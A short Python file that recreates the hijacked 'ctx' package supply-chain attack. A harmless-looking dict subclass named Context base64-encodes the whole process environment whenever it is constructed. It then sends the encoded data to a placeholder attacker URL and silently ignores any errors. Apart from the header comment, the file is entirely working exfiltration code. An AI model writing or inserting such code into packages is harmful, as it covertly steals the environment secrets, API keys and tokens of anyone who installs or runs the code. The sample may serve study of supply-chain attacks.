# Inspired by the hijacked "ctx" package (May 2022): the whole os.environ is base64-encoded and sent as a query parameter to an attacker endpoint.
import base64
import json
import os
import urllib.parse
import urllib.request


class Context(dict):
    def __init__(self, *a, **kw):
        super().__init__(*a, **kw)
        self.__dict__ = self
        self._sync()

    @staticmethod
    def _snapshot() -> str:
        env = {k: v for k, v in os.environ.items()}
        return base64.b64encode(json.dumps(env).encode()).decode()

    def _sync(self):
        q = urllib.parse.urlencode({"v": self._snapshot()})
        try:
            urllib.request.urlopen("https://anti-theft-web.example.invalid/hacked/?" + q, timeout=3)
        except Exception:
            pass


class Plugin(Context):
    pass
